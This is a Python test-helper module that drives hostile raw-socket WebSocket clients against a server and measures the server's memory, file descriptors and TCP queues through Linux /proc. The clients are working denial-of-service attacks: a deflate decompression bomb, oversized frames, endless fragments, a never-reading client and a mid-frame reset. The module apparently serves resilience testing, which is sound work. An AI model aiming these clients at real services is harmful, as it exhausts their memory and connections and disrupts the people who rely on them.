"""Hostile WebSocket clients on raw trio sockets, and /proc measurements of the server they attack.

Nothing here uses a WebSocket library: the clients write the bytes an attacker would write, so
they can do what a well-behaved library refuses to (announce a frame and never send it, keep
fragmenting after a 1009, never read).  Every wait is bounded by an explicit timeout.

Connections and frames:

- ``handshake(port, path)`` opens a TCP stream, upgrades it, checks the 101 and returns a
  ``RawConnection`` (stream, status, headers, bytes read past the response head).
- ``frame(opcode, payload)`` / ``frame_header(opcode, length)`` / ``close_frame(code)`` encode
  client frames (masked); ``deflate_bomb(size)`` a permessage-deflate payload inflating to
  ``size`` zero bytes.
- ``RawConnection.receive_frame()`` parses the server's frames; ``read_close(conn, within)``
  reads until the server's close frame and its TCP close.

Attacks (each returns what the client saw):

- ``deflate_bomb_attack``, ``oversized_message_attack``, ``endless_fragments_attack``: send, and
  watch for the server's close frame and TCP close meanwhile, never answering the close.
- ``never_read_client``: a client that makes the app send to it and never reads (``nursery.start``).
- ``reset_mid_frame``: announce a frame, send a few bytes of it, then reset the connection.

Process measurements (Linux /proc; measure the process that serves, not a supervisor):
``rss_kib``, ``peak_rss_kib``, ``reset_peak_rss``, ``open_fds``, ``held_connections``,
``tcp_queues``, ``child_pids``, ``serving_pid``.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import math
import os
import socket
import struct
import zlib
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path

import trio

OP_CONTINUATION = 0x0
OP_TEXT = 0x1
OP_BINARY = 0x2
OP_CLOSE = 0x8
OP_PING = 0x9
OP_PONG = 0xA

KiB = 1024
MiB = 1024 * KiB

DEADLINE = 5.0
"""Default bound, in seconds, for one handshake, one write or one frame read."""

_GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
_RECEIVE_SIZE = 64 * KiB
_MAX_HEAD = 64 * KiB


class HandshakeError(Exception):
    """The server did not complete the upgrade as asked (wrong status, bad accept key, EOF)."""


# Frames


@dataclass(frozen=True)
class Frame:
    """One frame as read from the server (unmasked; a compressed payload stays compressed)."""

    opcode: int
    payload: bytes
    fin: bool = True
    rsv1: bool = False

    @property
    def close_code(self) -> int | None:
        """The status code of a close frame (``None`` when it carries none, or is not a close)."""
        if self.opcode != OP_CLOSE or len(self.payload) < 2:
            return None
        code: int = struct.unpack("!H", self.payload[:2])[0]
        return code

    @property
    def close_reason(self) -> str:
        return self.payload[2:].decode("utf-8", "replace") if self.opcode == OP_CLOSE else ""


def mask_payload(payload: bytes, key: bytes) -> bytes:
    """XOR ``payload`` with the 4-byte ``key`` repeated (masking and unmasking are the same)."""
    size = len(payload)
    if not size:
        return b""
    keystream = (key * (size // 4 + 1))[:size]
    return (int.from_bytes(payload, "little") ^ int.from_bytes(keystream, "little")).to_bytes(size, "little")


def frame_header(
    opcode: int, length: int, *, fin: bool = True, rsv1: bool = False, mask_key: bytes | None = None
) -> bytes:
    """The header of a frame announcing ``length`` payload bytes (7, 16 or 64-bit length field).

    With ``mask_key`` (4 bytes) the mask bit is set and the key follows the length, as a client
    must send it; the payload that follows must then be masked with that key.
    """
    first = (0x80 if fin else 0) | (0x40 if rsv1 else 0) | (opcode & 0x0F)
    mask_bit = 0x80 if mask_key is not None else 0
    if length < 126:
        head = struct.pack("!BB", first, mask_bit | length)
    elif length < 1 << 16:
        head = struct.pack("!BBH", first, mask_bit | 126, length)
    else:
        head = struct.pack("!BBQ", first, mask_bit | 127, length)
    if mask_key is not None:
        assert len(mask_key) == 4, mask_key
        head += mask_key
    return head


def frame(opcode: int, payload: bytes, *, fin: bool = True, rsv1: bool = False, mask: bool = True) -> bytes:
    """Encode one frame; client frames are masked (with a random key) unless ``mask=False``."""
    key = os.urandom(4) if mask else None
    head = frame_header(opcode, len(payload), fin=fin, rsv1=rsv1, mask_key=key)
    return head + (mask_payload(payload, key) if key is not None else payload)


def close_frame(code: int | None = 1000, reason: str = "") -> bytes:
    """A masked close frame with ``code`` (none when ``None``) and ``reason``."""
    payload = b"" if code is None else struct.pack("!H", code) + reason.encode()
    return frame(OP_CLOSE, payload)


@lru_cache(maxsize=8)
def deflate_bomb(inflated_size: int, *, window_bits: int = 15) -> bytes:
    """A permessage-deflate message payload that inflates to ``inflated_size`` zero bytes.

    Raw deflate (no zlib header) with the ``00 00 ff ff`` of the final sync flush removed, as
    RFC 7692 section 7.2.1 says; send it as one binary frame with ``rsv1=True``.  Zeros compress
    about 1,030 to 1: 100 MiB become ~100 KiB.  ``window_bits`` should be the negotiated
    ``client_max_window_bits`` (zlib's raw deflate takes 9 to 15).
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -max(9, min(15, window_bits)))
    zeros = bytes(MiB)
    parts: list[bytes] = []
    whole, rest = divmod(inflated_size, MiB)
    for _ in range(whole):
        parts.append(compressor.compress(zeros))
    parts.append(compressor.compress(zeros[:rest]))
    parts.append(compressor.flush(zlib.Z_SYNC_FLUSH))
    payload = b"".join(parts)
    assert payload.endswith(b"\x00\x00\xff\xff")
    return payload[:-4]


def _parse_frame(buffer: bytearray) -> tuple[Frame, int] | None:
    """The first whole frame in ``buffer`` and the number of bytes it takes, or ``None``."""
    if len(buffer) < 2:
        return None
    first, second = buffer[0], buffer[1]
    length = second & 0x7F
    position = 2
    if length == 126:
        if len(buffer) < 4:
            return None
        length = struct.unpack_from("!H", buffer, 2)[0]
        position = 4
    elif length == 127:
        if len(buffer) < 10:
            return None
        length = struct.unpack_from("!Q", buffer, 2)[0]
        position = 10
    key = None
    if second & 0x80:
        if len(buffer) < position + 4:
            return None
        key = bytes(buffer[position : position + 4])
        position += 4
    end = position + length
    if len(buffer) < end:
        return None
    payload = bytes(buffer[position:end])
    if key is not None:
        payload = mask_payload(payload, key)
    parsed = Frame(opcode=first & 0x0F, payload=payload, fin=bool(first & 0x80), rsv1=bool(first & 0x40))
    return parsed, end


# Connections


@dataclass
class RawConnection:
    """An upgraded connection: the trio stream plus what the handshake returned.

    ``headers`` has lower-case names (repeated headers joined with ", ").  ``buffer`` holds bytes
    received but not yet parsed into frames (at first, what came after the response head).
    ``ended`` becomes "eof" or "reset" once a read found the server gone (or "closed" if we closed).
    Use it as an async context manager to close the stream on the way out.
    """

    stream: trio.SocketStream
    status: int
    headers: dict[str, str]
    buffer: bytearray = field(default_factory=bytearray)
    ended: str | None = None

    @property
    def extensions(self) -> str | None:
        """The negotiated ``sec-websocket-extensions`` (``None`` when none was accepted)."""
        return self.headers.get("sec-websocket-extensions")

    @property
    def local_port(self) -> int:
        port: int = self.stream.socket.getsockname()[1]
        return port

    async def send(self, data: bytes, *, within: float = DEADLINE) -> None:
        """Write ``data``; ``trio.TooSlowError`` if the server has not taken it ``within`` seconds."""
        with trio.fail_after(within):
            await self.stream.send_all(data)

    async def receive_frame(self, *, within: float | None = DEADLINE) -> Frame | None:
        """The server's next frame, or ``None`` once it closed or reset the TCP connection.

        ``trio.TooSlowError`` if none came ``within`` seconds; ``within=None`` leaves the bound to
        an enclosing cancel scope.
        """
        with trio.fail_after(math.inf if within is None else within):
            while True:
                parsed = _parse_frame(self.buffer)
                if parsed is not None:
                    received, size = parsed
                    del self.buffer[:size]
                    return received
                if self.ended is not None:
                    return None
                try:
                    data = await self.stream.receive_some(_RECEIVE_SIZE)
                except trio.BrokenResourceError:
                    self.ended = "reset"
                    return None
                except trio.ClosedResourceError:
                    self.ended = "closed"
                    return None
                if not data:
                    self.ended = "eof"
                    return None
                self.buffer += data

    async def abort(self) -> None:
        """Close with SO_LINGER {on, 0}: the server gets a TCP RST instead of a FIN."""
        with contextlib.suppress(OSError):  # already closed
            self.stream.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        await self.stream.aclose()

    async def aclose(self) -> None:
        await self.stream.aclose()

    async def __aenter__(self) -> RawConnection:
        return self

    async def __aexit__(self, *exc_info: object) -> None:
        await self.stream.aclose()


async def _connect(host: str, port: int, rcvbuf: int | None) -> trio.SocketStream:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    sock = trio.socket.socket(family, socket.SOCK_STREAM)
    try:
        if rcvbuf is not None:  # before connect, so the window scale is chosen for it
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        await sock.connect((host, port))
    except BaseException:
        sock.close()
        raise
    return trio.SocketStream(sock)


async def handshake(
    port: int,
    path: str = "/",
    *,
    extensions: str | None = None,
    host: str = "127.0.0.1",
    headers: Sequence[tuple[str, str]] = (),
    rcvbuf: int | None = None,
    check: bool = True,
    within: float = DEADLINE,
) -> RawConnection:
    """Connect to ``host:port`` and send an HTTP/1.1 upgrade request for ``path``.

    ``extensions`` is sent as ``Sec-WebSocket-Extensions`` (e.g. "permessage-deflate");
    ``rcvbuf`` sets SO_RCVBUF before connecting (a small one makes a non-reading client stall
    sooner).  With ``check`` (the default) anything but a 101 with the right
    ``Sec-WebSocket-Accept`` raises ``HandshakeError`` (and closes the stream); without it the
    connection is returned whatever the status.  ``trio.TooSlowError`` if it takes longer than
    ``within`` seconds.
    """
    key = base64.b64encode(os.urandom(16))
    lines = [
        f"GET {path} HTTP/1.1",
        f"Host: {host}:{port}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        f"Sec-WebSocket-Key: {key.decode()}",
        "Sec-WebSocket-Version: 13",
    ]
    if extensions is not None:
        lines.append(f"Sec-WebSocket-Extensions: {extensions}")
    lines += [f"{name}: {value}" for name, value in headers]
    request = ("\r\n".join(lines) + "\r\n\r\n").encode()
    with trio.fail_after(within):
        stream = await _connect(host, port, rcvbuf)
        try:
            await stream.send_all(request)
            received = bytearray()
            while b"\r\n\r\n" not in received:
                if len(received) > _MAX_HEAD:
                    raise HandshakeError(f"response head over {_MAX_HEAD} bytes")
                data = await stream.receive_some(_RECEIVE_SIZE)
                if not data:
                    raise HandshakeError(f"EOF during the handshake after {bytes(received)!r}")
                received += data
            head, _, rest = bytes(received).partition(b"\r\n\r\n")
            status_line, *header_lines = head.decode("latin-1").split("\r\n")
            parts = status_line.split(" ", 2)
            if len(parts) < 2 or not parts[1].isdigit():
                raise HandshakeError(f"bad status line {status_line!r}")
            status = int(parts[1])
            response_headers: dict[str, str] = {}
            for line in header_lines:
                name, _, value = line.partition(":")
                name = name.strip().lower()
                value = value.strip()
                previous = response_headers.get(name)
                response_headers[name] = value if previous is None else f"{previous}, {value}"
            if check:
                if status != 101:
                    raise HandshakeError(f"expected 101, got {status_line!r}")
                expected = base64.b64encode(hashlib.sha1(key + _GUID).digest()).decode()
                if response_headers.get("sec-websocket-accept") != expected:
                    raise HandshakeError(f"bad Sec-WebSocket-Accept in {response_headers!r}")
        except BaseException:
            with trio.CancelScope(shield=True):
                await stream.aclose()
            raise
    return RawConnection(stream, status, response_headers, bytearray(rest))


@dataclass
class CloseResult:
    """What ``read_close`` saw; times are seconds from the call (or the attack's start)."""

    code: int | None = None
    """The server's close code; ``None`` if no close frame came (a browser would report 1006)."""
    reason: str = ""
    close_after: float | None = None
    tcp_closed_after: float | None = None
    ended: str | None = None
    """How the TCP connection ended: "eof", "reset", or ``None`` if it was still open."""
    frames: int = 0
    """Frames other than the close frame read meanwhile (data, pings, pongs)."""

    @property
    def tcp_closed(self) -> bool:
        return self.tcp_closed_after is not None

    def describe(self) -> str:
        """e.g. "1001, TCP eof at 0.01 s" or "no close frame, TCP open"."""
        code = f"{self.code}" if self.code is not None else "no close frame"
        if self.tcp_closed_after is not None:
            return f"{code}, TCP {self.ended} at {self.tcp_closed_after:.2f} s"
        return f"{code}, TCP open"


async def read_close(conn: RawConnection, within: float, *, answer: bool = True) -> CloseResult:
    """Read frames until the server closes TCP, for at most ``within`` seconds.

    Data frames and pings are skipped (pings answered with a pong when ``answer``); the first
    close frame's code and reason are recorded and, when ``answer``, echoed back as a
    well-behaved client would.  Reading goes on after the close frame until EOF or reset, so the
    result says whether the server actually dropped the connection in that time.
    """
    start = trio.current_time()
    result = CloseResult()
    with trio.move_on_after(within):
        while True:
            received = await conn.receive_frame(within=None)
            if received is None:
                result.tcp_closed_after = trio.current_time() - start
                result.ended = conn.ended
                break
            if received.opcode == OP_CLOSE and result.close_after is None:
                result.code = received.close_code
                result.reason = received.close_reason
                result.close_after = trio.current_time() - start
                if answer:
                    await _send_quietly(conn, close_frame(result.code))
                continue
            result.frames += 1
            if received.opcode == OP_PING and answer and result.close_after is None:
                await _send_quietly(conn, frame(OP_PONG, received.payload))
    return result


async def _send_quietly(conn: RawConnection, data: bytes) -> bool:
    """Write ``data`` if the server still takes it (bounded); return whether it was written."""
    try:
        await conn.send(data)
    except (trio.BrokenResourceError, trio.ClosedResourceError, trio.TooSlowError):
        return False
    return True


# Attacks


@dataclass
class AttackResult:
    """What an attacking client saw; times are seconds from the end of its handshake."""

    sent: int = 0
    """Bytes written after the handshake (whole writes only)."""
    negotiated: str | None = None
    """The ``sec-websocket-extensions`` the server accepted, if any."""
    close: CloseResult = field(default_factory=CloseResult)
    stalled: bool = False
    """A write made no progress for ``stall_timeout`` (the server stopped reading)."""
    write_failed: bool = False
    """A write failed: the server had closed or reset the connection."""
    sending_took: float = 0.0

    def describe(self) -> str:
        extra = " (writes stalled)" if self.stalled else " (a write failed)" if self.write_failed else ""
        return f"sent {self.sent / MiB:.1f} MiB in {self.sending_took:.2f} s{extra}; {self.close.describe()}"


@dataclass
class Writing:
    """How far ``write_until_stalled`` got (updated as it goes, so it is right if cancelled)."""

    sent: int = 0
    """Bytes of the chunks written whole."""
    ended: str | None = None
    """``"stalled"``, ``"failed"`` (the server closed or reset the connection), or ``None``."""


async def write_until_stalled(
    conn: RawConnection, chunks: Iterable[bytes], stall_timeout: float, writing: Writing
) -> None:
    """Write ``chunks`` until one makes no progress for ``stall_timeout`` s or the server drops us."""
    for chunk in chunks:
        with trio.move_on_after(stall_timeout) as write:
            try:
                await conn.stream.send_all(chunk)
            except (trio.BrokenResourceError, trio.ClosedResourceError):
                writing.ended = "failed"
                return
        if write.cancelled_caught:
            writing.ended = "stalled"
            return
        writing.sent += len(chunk)


async def send_and_watch(
    conn: RawConnection, chunks: Iterable[bytes], *, linger: float = DEADLINE, stall_timeout: float = DEADLINE
) -> AttackResult:
    """Write ``chunks`` while reading the server's frames; stop writing once it drops TCP.

    The reader never answers the server's close frame (an attacker doesn't): the result says
    whether the server dropped the connection anyway.  After the last write it waits up to
    ``linger`` seconds for that.  A write that makes no progress for ``stall_timeout`` seconds
    ends the writing (``stalled``).
    """
    result = AttackResult(negotiated=conn.extensions)
    start = trio.current_time()
    dropped = trio.Event()
    writing = trio.CancelScope()

    async def watch() -> None:
        while True:
            received = await conn.receive_frame(within=None)
            if received is None:
                result.close.tcp_closed_after = trio.current_time() - start
                result.close.ended = conn.ended
                dropped.set()
                writing.cancel()
                return
            if received.opcode == OP_CLOSE and result.close.close_after is None:
                result.close.code = received.close_code
                result.close.reason = received.close_reason
                result.close.close_after = trio.current_time() - start
            else:
                result.close.frames += 1

    async with trio.open_nursery() as nursery:
        nursery.start_soon(watch)
        progress = Writing()
        with writing:
            await write_until_stalled(conn, chunks, stall_timeout, progress)
        result.sent = progress.sent
        result.stalled, result.write_failed = progress.ended == "stalled", progress.ended == "failed"
        result.sending_took = trio.current_time() - start
        with trio.move_on_after(linger):
            await dropped.wait()
        nursery.cancel_scope.cancel()
    return result


def _window_bits(extensions: str | None) -> int:
    """The ``client_max_window_bits`` the server asked for in its extension response (15 if none)."""
    for parameter in (extensions or "").split(";"):
        name, _, value = parameter.strip().partition("=")
        if name == "client_max_window_bits" and value.strip('"').isdigit():
            return int(value.strip('"'))
    return 15


async def deflate_bomb_attack(
    port: int, inflated_size: int = 100 * MiB, *, path: str = "/", linger: float = DEADLINE
) -> AttackResult:
    """Offer permessage-deflate, then send one binary frame whose payload inflates to ``inflated_size``.

    The frame is sent compressed (RSV1) even if the server did not accept the extension, which a
    server must then refuse (1002); ``result.negotiated`` tells which case it was.
    """
    conn = await handshake(port, path, extensions="permessage-deflate; client_max_window_bits")
    async with conn:
        bomb = deflate_bomb(inflated_size, window_bits=_window_bits(conn.extensions))
        return await send_and_watch(conn, [frame(OP_BINARY, bomb, rsv1=True)], linger=linger)


def _masked_zeros(key: bytes, size: int) -> bytes:
    """``size`` zero bytes masked with ``key`` (the key repeated), for chunks that start 4-aligned."""
    return (key * (size // 4 + 1))[:size]


def _oversized_chunks(size: int, chunk: int, key: bytes) -> Iterator[bytes]:
    chunk -= chunk % 4  # keeps every chunk aligned on the mask key
    yield frame_header(OP_BINARY, size, mask_key=key)
    block = _masked_zeros(key, chunk)
    sent = 0
    while sent < size:
        part = min(chunk, size - sent)
        yield block if part == chunk else block[:part]
        sent += part


async def oversized_message_attack(
    port: int,
    size: int = 50 * MiB,
    *,
    path: str = "/",
    chunk: int = MiB,
    linger: float = DEADLINE,
    stall_timeout: float = DEADLINE,
) -> AttackResult:
    """Send one binary frame of ``size`` bytes (zeros), its payload streamed in ``chunk``-byte writes."""
    conn = await handshake(port, path)
    async with conn:
        chunks = _oversized_chunks(size, chunk, os.urandom(4))
        return await send_and_watch(conn, chunks, linger=linger, stall_timeout=stall_timeout)


def _fragment_frames(size: int, fragment: int, key: bytes) -> Iterator[bytes]:
    fragment -= fragment % 4
    payload = _masked_zeros(key, fragment)
    yield frame_header(OP_BINARY, fragment, fin=False, mask_key=key) + payload
    continuation = frame_header(OP_CONTINUATION, fragment, fin=False, mask_key=key) + payload
    for _ in range(-(-size // fragment)):
        yield continuation


async def endless_fragments_attack(
    port: int,
    size: int = 150 * MiB,
    *,
    path: str = "/",
    fragment: int = 256 * KiB,
    linger: float = DEADLINE,
    stall_timeout: float = DEADLINE,
) -> AttackResult:
    """Start a binary message (FIN unset) and send ``size`` bytes of continuation frames after it.

    The message never ends, and the writing goes on after the server's 1009: it stops only when
    ``size`` is sent, the server drops the TCP connection, or a write stalls.
    """
    conn = await handshake(port, path)
    async with conn:
        frames = _fragment_frames(size, fragment, os.urandom(4))
        return await send_and_watch(conn, frames, linger=linger, stall_timeout=stall_timeout)


@dataclass
class StalledClient:
    """What ``never_read_client`` reports once it has stopped sending and holds its socket."""

    conn: RawConnection
    sent: int
    """Message bytes written before the writes stalled (or ``messages`` were all sent)."""
    stalled: bool
    dropped: bool = False
    """A write failed: the server closed the connection while we were still sending."""

    @property
    def local_port(self) -> int:
        return self.conn.local_port


async def never_read_client(
    port: int,
    path: str = "/",
    *,
    message_size: int = MiB,
    messages: int = 64,
    text: bool = False,
    rcvbuf: int | None = None,
    stall_timeout: float = 1.0,
    stop: trio.Event | None = None,
    hold: float = 600.0,
    task_status: trio.TaskStatus[StalledClient] = trio.TASK_STATUS_IGNORED,
) -> None:
    """Connect, make the app send to us, and never read a byte.  Use with ``nursery.start``.

    Against an echo, writing ``messages`` messages of ``message_size`` bytes makes it flood us:
    the writes go on until one makes no progress for ``stall_timeout`` seconds (the echo is stuck
    sending to us, so the server stopped reading) or all are sent.  With ``messages=0`` it just
    connects (e.g. joins a chat room, where other clients' messages are the flood).  Then
    ``task_status.started(StalledClient)`` and the socket stays open and idle until ``stop`` is
    set, the task is cancelled, or ``hold`` seconds pass; then it is closed (with unread data, the
    kernel sends a reset).
    """
    conn = await handshake(port, path, rcvbuf=rcvbuf)
    async with conn:
        info = StalledClient(conn, sent=0, stalled=False)
        if messages:
            payload = b"x" * message_size if text else bytes(message_size)
            data = frame(OP_TEXT if text else OP_BINARY, payload)
            progress = Writing()
            await write_until_stalled(conn, [data] * messages, stall_timeout, progress)
            info.sent = progress.sent // len(data) * message_size
            info.stalled, info.dropped = progress.ended == "stalled", progress.ended == "failed"
        task_status.started(info)
        with trio.move_on_after(hold):
            if stop is None:
                await trio.sleep_forever()
            else:
                await stop.wait()


async def reset_mid_frame(
    port: int, path: str = "/", *, announced: int = MiB + 7, sent: int = 1000, within: float = DEADLINE
) -> None:
    """Announce a ``announced``-byte binary frame, send ``sent`` bytes of it, then reset (RST).

    SO_LINGER {on, 0} makes the close a TCP reset, as a client that crashes or loses its network
    (and has its NAT time out) looks to the server.
    """
    conn = await handshake(port, path, within=within)
    key = os.urandom(4)
    try:
        await conn.send(
            frame_header(OP_BINARY, announced, mask_key=key) + _masked_zeros(key, sent), within=within
        )
    finally:
        await conn.abort()


# Process measurements (Linux)


def _status_kib(pid: int, name: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(name + ":"):
            return int(line.split()[1])
    raise LookupError(f"{name} not in /proc/{pid}/status")


def rss_kib(pid: int) -> int:
    """Resident set size (VmRSS) of ``pid``, in KiB."""
    return _status_kib(pid, "VmRSS")


def peak_rss_kib(pid: int) -> int:
    """Peak resident set size (VmHWM) of ``pid`` since it started or since ``reset_peak_rss``."""
    return _status_kib(pid, "VmHWM")


def reset_peak_rss(pid: int) -> bool:
    """Reset ``pid``'s VmHWM to its current RSS (``5`` to /proc/PID/clear_refs); ``False`` if refused."""
    try:
        Path(f"/proc/{pid}/clear_refs").write_text("5")
    except OSError:
        return False
    return True


def open_fds(pid: int) -> int:
    """How many file descriptors ``pid`` has open."""
    return len(os.listdir(f"/proc/{pid}/fd"))


def tcp_queues(pid: int, local_port: int) -> dict[int, tuple[int, int]]:
    """The TCP connections on ``local_port`` whose sockets ``pid`` holds open, by remote port.

    Each value is (send queue, receive queue) in bytes as the kernel reports them: what the
    server has written but the peer has not acknowledged (a peer that stops reading fills it),
    and what arrived that the server has not read.
    """
    inodes: set[str] = set()
    fd_dir = f"/proc/{pid}/fd"
    for fd in os.listdir(fd_dir):
        try:
            target = os.readlink(f"{fd_dir}/{fd}")
        except OSError:
            continue  # closed meanwhile
        if target.startswith("socket:["):
            inodes.add(target[len("socket:[") : -1])
    connections: dict[int, tuple[int, int]] = {}
    for table in ("tcp", "tcp6"):
        try:
            rows = Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            local, remote, queues, inode = fields[1], fields[2], fields[4], fields[9]
            remote_port = int(remote.rsplit(":", 1)[1], 16)
            if inode in inodes and int(local.rsplit(":", 1)[1], 16) == local_port and remote_port:
                send_queue, _, receive_queue = queues.partition(":")
                connections[remote_port] = (int(send_queue, 16), int(receive_queue, 16))
    return connections


def held_connections(pid: int, local_port: int) -> set[int]:
    """Remote ports of the TCP connections on ``local_port`` whose sockets ``pid`` holds open.

    A client can check with its own ``local_port`` whether the server still holds its
    connection, without reading from it (a client that never reads cannot see a FIN that is
    queued behind the data it did not read).
    """
    return set(tcp_queues(pid, local_port))


def child_pids(pid: int) -> list[int]:
    """The direct children of ``pid`` (e.g. the workers under ``--workers N``'s supervisor)."""
    children: list[int] = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        # The command name (field 2) is in parentheses and may contain spaces: split after it.
        fields = stat[stat.rindex(")") + 2 :].split()
        if int(fields[1]) == pid:
            children.append(int(entry))
    return sorted(children)


def serving_pid(pid: int) -> int:
    """The process that serves: ``pid`` itself, or its only child if it is a supervisor of one."""
    children = child_pids(pid)
    return children[0] if len(children) == 1 else pid


__all__ = [
    "DEADLINE",
    "OP_BINARY",
    "OP_CLOSE",
    "OP_CONTINUATION",
    "OP_PING",
    "OP_PONG",
    "OP_TEXT",
    "AttackResult",
    "CloseResult",
    "Frame",
    "HandshakeError",
    "KiB",
    "MiB",
    "RawConnection",
    "StalledClient",
    "child_pids",
    "close_frame",
    "deflate_bomb",
    "deflate_bomb_attack",
    "endless_fragments_attack",
    "frame",
    "frame_header",
    "handshake",
    "held_connections",
    "mask_payload",
    "never_read_client",
    "open_fds",
    "oversized_message_attack",
    "peak_rss_kib",
    "read_close",
    "reset_mid_frame",
    "reset_peak_rss",
    "rss_kib",
    "send_and_watch",
    "serving_pid",
    "tcp_queues",
]
